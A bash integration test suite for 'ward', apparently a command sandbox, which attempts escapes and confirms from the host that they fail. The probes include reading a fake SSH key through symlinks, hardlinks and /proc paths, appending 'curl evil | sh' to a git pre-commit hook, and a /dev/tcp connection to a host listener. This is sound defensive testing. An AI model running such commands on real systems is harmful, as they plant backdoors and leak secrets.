#!/usr/bin/env bash
# ward run at T2: try to break out, then check on the host that nothing
# happened. Issue 2's integration tests.
. "$(dirname "$0")/lib.sh"
require_t2

PY=/usr/bin/python3
export PATH=/usr/local/bin:/usr/bin:/bin
sha() { sha256sum "$1" | cut -d' ' -f1; }
alive() { pgrep -f "$1" >/dev/null; }

# A fake secret in the fake $HOME.
mkdir -p "$HOME/.ssh"
echo "SECRET-KEY-123" >"$HOME/.ssh/id_rsa"
chmod 600 "$HOME/.ssh/id_rsa"
SECRET=$HOME/.ssh/id_rsa

# --- reading the secret -------------------------------------------------
out=$("$WARD" run -- cat "$SECRET" 2>&1)
check_not "secret by absolute path is unreadable" grep -q SECRET-KEY <<<"$out"
ln -s "$SECRET" "$WS/link-to-secret"
out=$("$WARD" run -- cat link-to-secret 2>&1)
check_not "secret through a symlink planted in the workspace" grep -q SECRET-KEY <<<"$out"
rm -f "$WS/link-to-secret"
out=$("$WARD" run -- sh -c "ln '$SECRET' hardlink; cat hardlink" 2>&1)
check_not "secret through a hardlink made inside" grep -q SECRET-KEY <<<"$out"
check_not "no hardlink appeared on the host" test -e "$WS/hardlink"
out=$("$WARD" run -- sh -c "cat /proc/self/root$SECRET; cat /proc/1/root$SECRET" 2>&1)
check_not "secret through /proc/self/root and /proc/1/root" grep -q SECRET-KEY <<<"$out"
out=$("$WARD" run -- sh -c 'ls -A "$HOME"' 2>&1)
check_eq "\$HOME is empty inside" "" "$out"

# --- writing outside the workspace --------------------------------------
echo original >"$T/outside.txt"
before=$(sha "$T/outside.txt")
"$WARD" run -- sh -c "echo pwned > '$T/outside.txt'; mv '$T/outside.txt' '$T/moved.txt'; rm -f '$T/outside.txt'; touch /usr/ward-pwned /etc/ward-pwned" >/dev/null 2>&1
check_eq "file outside the workspace unchanged" "$before" "$(sha "$T/outside.txt")"
check_not "file outside was not renamed" test -e "$T/moved.txt"
check_not "nothing created in /usr or /etc" test -e /usr/ward-pwned -o -e /etc/ward-pwned
"$WARD" run -- sh -c 'echo inside > made-inside.txt' >/dev/null 2>&1
check_eq "the workspace is writable" "inside" "$(cat "$WS/made-inside.txt" 2>/dev/null)"

# --- protected paths ----------------------------------------------------
mkdir -p "$WS/.git/hooks"
echo '#!/bin/sh' >"$WS/.git/hooks/pre-commit"
echo '[core]' >"$WS/.git/config"
h1=$(sha "$WS/.git/hooks/pre-commit")
h2=$(sha "$WS/.git/config")
"$WARD" run -- sh -c 'echo "curl evil | sh" >> .git/hooks/pre-commit; echo x >> .git/config;
	rm -f .git/hooks/pre-commit; mv .git .git-moved; rm -rf .git; mkdir -p .ward/x; touch .ward/y' >/dev/null 2>&1
check_eq ".git/hooks/pre-commit unchanged" "$h1" "$(sha "$WS/.git/hooks/pre-commit")"
check_eq ".git/config unchanged" "$h2" "$(sha "$WS/.git/config")"
check_not ".git was not moved" test -e "$WS/.git-moved"
check_not ".ward made by the command does not survive the run (host)" test -e "$WS/.ward"
for p in .ward .harness .codex .agents .claude; do
	check_not "nothing named $p left in the workspace (host)" test -e "$WS/$p"
done

# No marks: while a run is alive, the workspace holds nothing of ward's;
# ward killed with SIGKILL: the sandbox dies with it and leaves nothing.
before=$(ls -A "$WS")
"$WARD" run -- sh -c 'sleep 1234' &
wpid=$!
for _ in $(seq 50); do pgrep -f 'sleep 1234' >/dev/null && break; sleep 0.1; done
check "a run is alive" alive 'sleep 1234'
check_eq "no placeholder in the workspace while a run is alive (host)" "$before" "$(ls -A "$WS")"
kill -KILL "$wpid"
wait "$wpid" 2>/dev/null
for _ in $(seq 50); do pgrep -f 'sleep 1234' >/dev/null || break; sleep 0.1; done
check_not "the sandbox died with ward (SIGKILL)" alive 'sleep 1234'
check_eq "nothing of ward's left after the SIGKILL (host)" "$before" "$(ls -A "$WS")"

# --- processes ----------------------------------------------------------
sleep 4321 &
hostpid=$!
at_exit "kill_id TERM $(proc_id "$hostpid")"
out=$("$WARD" run -- sh -c "ps -eo pid,args; kill -9 $hostpid; echo kill=\$?" 2>&1)
check_not "host processes are invisible" grep -q 'sleep 4321' <<<"$out"
check "host processes cannot be signalled" grep -q 'kill=1' <<<"$out"
check "the host process is still alive" kill -0 "$hostpid"
"$WARD" run -- sh -c '(setsid sleep 5671 &); (sleep 5672 &); nohup sleep 5673 >/dev/null 2>&1 & echo started' >/dev/null 2>&1
check_not "nothing the command started survives (setsid, double fork, nohup)" pgrep -f 'sleep 567[123]'

# --- network ------------------------------------------------------------
port=$((20000 + RANDOM % 20000))
log=$T/listener.log
: >"$log"
$PY - "$port" "$log" <<'PY' &
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(5); s.settimeout(20)
try:
    while True:
        c, a = s.accept(); open(sys.argv[2], "a").write("connection\n"); c.close()
except Exception:
    pass
PY
lpid=$!
at_exit "kill_id TERM $(proc_id "$lpid")"
sleep 0.5
"$WARD" run -- bash -c "echo hi > /dev/tcp/127.0.0.1/$port" >/dev/null 2>&1
check_ne_status=$?
check_eq "a direct connect to a host listener fails" 1 "$([ $check_ne_status -ne 0 ] && echo 1 || echo 0)"
check_eq "the host listener saw no connection" "" "$(cat "$log")"
out=$("$WARD" run -- cat /proc/net/dev 2>&1)
check_eq "only loopback in the network namespace" "lo" "$(awk -F: 'NR>2 {gsub(/ /,"",$1); print $1}' <<<"$out")"
cat >"$T/local.json" <<JSON
{ "network": { "local_ports": [$port] } }
JSON
out=$("$WARD" run -p "$T/local.json" -- bash -c "$PY -m http.server $port --bind 127.0.0.1 >/dev/null 2>&1 & for i in \$(seq 50); do (echo > /dev/tcp/127.0.0.1/$port) 2>/dev/null && break; sleep 0.1; done; $PY -c 'import urllib.request;print(urllib.request.urlopen(\"http://127.0.0.1:$port/\").status)'" 2>&1)
check_eq "a server started inside is reachable from inside" "200" "$(tail -1 <<<"$out")"
check_eq "...and the host listener still saw nothing" "" "$(cat "$log")"

# --- environment --------------------------------------------------------
out=$(env FOO_TOKEN=t1 AWS_SECRET_ACCESS_KEY=t2 MY_PASSWORD=t3 OPENAI_API_KEY=t4 GITHUB_TOKEN=t5 \
	ANTHROPIC_API_KEY=t6 RANDOM_THING=t7 LANG=C.UTF-8 "$WARD" run -- env 2>&1)
for v in FOO_TOKEN AWS_SECRET_ACCESS_KEY MY_PASSWORD OPENAI_API_KEY GITHUB_TOKEN ANTHROPIC_API_KEY RANDOM_THING; do
	check_not "$v is not passed" grep -q "^$v=" <<<"$out"
done
check "PATH is passed" grep -q '^PATH=' <<<"$out"
check "LANG is passed" grep -q '^LANG=C.UTF-8' <<<"$out"
check "TMPDIR points into the private /tmp" grep -q '^TMPDIR=/tmp$' <<<"$out"
out=$("$WARD" run --env EXTRA=yes --env FOO_TOKEN=explicit -- env 2>&1)
check "--env sets a variable, even a stripped name" grep -q '^FOO_TOKEN=explicit' <<<"$out"

# --- exit codes, signals, timeout ---------------------------------------
check_eq "the command's own exit status" 3 "$(status_of "$WARD" run -- sh -c 'exit 3')"
check_eq "128+N when signal N killed it" 143 "$(status_of "$WARD" run -- sh -c 'kill -TERM $$')"
check_eq "127 for a command that does not exist" 127 "$(status_of "$WARD" run -- no-such-command-xyz)"
printf 'not a program' >"$WS/notexec"
chmod 644 "$WS/notexec"
check_eq "126 for a file that is not executable" 126 "$(status_of "$WARD" run -- ./notexec)"
start=$(date +%s)
# Durations no other run on the host uses (the root and unprivileged
# variants of this test run at the same time): pgrep looks machine-wide.
s1=$((7000000 + RANDOM * 2)); s2=$((s1 + 1))
st=$(status_of "$WARD" run --timeout 1 -- sh -c "(setsid sleep $s1 &); sleep $s2")
check_eq "--timeout exits 124" 124 "$st"
check "--timeout does not wait for the command" test $(($(date +%s) - start)) -lt 8
check_not "--timeout killed the whole tree" pgrep -f "sleep ($s1|$s2)"

"$WARD" run -- sh -c "trap 'echo got-term > sig.txt; exit 7' TERM; sleep 100 & wait" &
wpid=$!
sleep 1
kill -TERM "$wpid"
wait "$wpid"
st=$?
check_eq "SIGTERM to ward is forwarded to the command" "got-term" "$(cat "$WS/sig.txt" 2>/dev/null)"
check_eq "...and ward exits with the command's status" 7 "$st"

# --- stdin, stdout, terminal ---------------------------------------------
check_eq "stdin passes through a pipe" "abc" "$(echo abc | "$WARD" run -- cat)"
seq 100000 >"$T/big.txt"
check_eq "a command reads stdin to EOF" "100000" "$("$WARD" run -- wc -l <"$T/big.txt" | tr -d ' ')"
out=$(script -qec "$WARD run -- sh -c 'test -t 0 && test -t 1 && echo ON-A-TTY'" /dev/null </dev/null 2>&1)
check "an interactive terminal stays a terminal" grep -q ON-A-TTY <<<"$out"

# A shell prompt with job control, ^C, and vi, through tmux (its own pty).
if command -v tmux >/dev/null && command -v vi >/dev/null; then
	sock="$T/tmux.sock"
	tmux -S "$sock" new-session -d -x 100 -y 20 "$WARD run -- bash --norc -i; echo ward-exit=\$? > $T/tmux-exit; sleep 30"
	at_exit "tmux -S '$sock' kill-server 2>/dev/null"
	sleep 2
	tmux -S "$sock" send-keys 'sleep 100' Enter
	sleep 1
	tmux -S "$sock" send-keys C-c
	sleep 0.5
	tmux -S "$sock" send-keys 'vi vi-notes.txt' Enter
	sleep 1.5
	tmux -S "$sock" send-keys 'ihello from vi' Escape ':wq' Enter
	sleep 1
	tmux -S "$sock" send-keys 'exit 4' Enter
	for _ in $(seq 50); do [ -s "$T/tmux-exit" ] && break; sleep 0.1; done
	check_eq "an interactive shell: ^C, then vi edits a file" "hello from vi" "$(cat "$WS/vi-notes.txt" 2>/dev/null)"
	check_eq "...and ward exits with the shell's status" "ward-exit=4" "$(cat "$T/tmux-exit" 2>/dev/null)"
	tmux -S "$sock" kill-server 2>/dev/null
else
	ok_skip "tmux or vi not installed"
fi

# --- the view -----------------------------------------------------------
out=$("$WARD" run -- ls /dev 2>&1 | tr '\n' ' ')
check_eq "/dev is minimal" "fd full null ptmx pts random shm stderr stdin stdout tty urandom zero " "$out"
check_not "/sys is read-only" "$WARD" run -- sh -c 'echo 1 > /sys/kernel/mm/ksm/run' 2>/dev/null
check_eq "/proc is fresh: pid 1 is ward's init" "1" "$("$WARD" run -- sh -c 'ls /proc | grep -c "^1$"')"
# A name nobody else on the host uses (other runs share /tmp).
tmpname=/tmp/ward-private-$$-$RANDOM
out=$("$WARD" run -- sh -c "echo x > $tmpname && cat $tmpname")
check_eq "/tmp is writable" "x" "$out"
check_not "...and private (nothing written to the host's /tmp)" test -e "$tmpname"

# --- ward's own files ---------------------------------------------------
mkdir -p "$XDG_CONFIG_HOME/ward"
echo '{ "fs": { "read": ["~"] } }' >"$XDG_CONFIG_HOME/ward/policy.json"
echo CONFIG-CONTENT >"$XDG_CONFIG_HOME/ward/note"
out=$("$WARD" run -- sh -c "ls -A \$HOME; cat $XDG_CONFIG_HOME/ward/note $XDG_STATE_HOME/ward/audit.jsonl" 2>&1)
check "the user's policy file is read (home is readable through it)" grep -q '.ssh' <<<"$out"
check_not "ward's config dir is not visible" grep -q CONFIG-CONTENT <<<"$out"
check_not "ward's audit log is not visible" grep -q '"event"' <<<"$out"
echo '{ "fs": { "read": ["~"], "deny": ["~/.ssh"] } }' >"$T/deny.json"
out=$("$WARD" run -p "$T/deny.json" -- sh -c "ls -A \$HOME; cat $SECRET" 2>&1)
check "with ~ readable, the rest of home is visible" grep -q '^p.json$\|^\.config$' <<<"$out"
check_not "deny still wins: the secret stays hidden with ~ readable" grep -q SECRET-KEY <<<"$out"
rm -f "$XDG_CONFIG_HOME/ward/policy.json"
echo '{ "env": { "set": { "X": "1" } } }' >"$WS/p.json"
out=$("$WARD" run -p "$WS/p.json" -- cat p.json 2>&1)
check_not "the policy file is not visible inside, even in the workspace" grep -q '"set"' <<<"$out"

# --- a broken policy runs nothing ----------------------------------------
echo '{ "fs": { "read": ["/usr", "relative/path"] } }' >"$T/bad.json"
err=$("$WARD" run -p "$T/bad.json" -- touch "$WS/ran" 2>&1)
st=$?
check_eq "a broken policy exits 125" 125 "$st"
check "the error names the file" grep -q "$T/bad.json" <<<"$err"
check "the error names the JSON path" grep -q 'fs.read\[1\]' <<<"$err"
check_not "...and nothing ran" test -e "$WS/ran"
check_eq "an unknown tier is an error" 125 "$(status_of "$WARD" run --tier 4 -- true)"
check_eq "tier 3 without its guest image is an error" 125 \
	"$(WARD_VM_DIR="$T/no-vm-image" status_of "$WARD" run --tier 3 -- true)"

# --- fail closed when the kernel cannot give T2 --------------------------
# user.max_user_namespaces is per user namespace: set it to 0 in a
# throwaway one, so ward's clone fails as on a host with userns disabled.
if unshare -U -r true 2>/dev/null; then
	err=$(unshare -U -r sh -c "echo 0 > /proc/sys/user/max_user_namespaces && '$WARD' run -- touch '$WS/ran-t2'" 2>&1)
	st=$?
	check_eq "no user namespaces: ward exits 125" 125 "$st"
	check "...says what is missing" grep -q 'max_user_namespaces' <<<"$err"
	check "...with a Hint: line" grep -q 'Hint:' <<<"$err"
	check_not "...and runs nothing (no silent fallback)" test -e "$WS/ran-t2"
else
	ok_skip "cannot make a user namespace to simulate a kernel without them"
fi

# --- the audit log --------------------------------------------------------
"$WARD" run -- sh -c 'exit 5'
last_start=$(grep '"event":"start"' "$XDG_STATE_HOME/ward/audit.jsonl" | tail -1)
last_exit=$(grep '"event":"exit"' "$XDG_STATE_HOME/ward/audit.jsonl" | tail -1)
check "start records argv, workspace, tier and policy hash" \
	$PY -c 'import json,sys; e=json.loads(sys.argv[1]); assert e["argv"]==["sh","-c","exit 5"] and e["tier"]==2 and len(e["policy_hash"])==64 and e["workspace"]==sys.argv[2] and e["session"]' "$last_start" "$WS"
check "exit records status, signal and duration" \
	$PY -c 'import json,sys; e=json.loads(sys.argv[1]); assert e["status"]==5 and e["signal"] is None and e["duration_ms"]>=0' "$last_exit"

done_testing
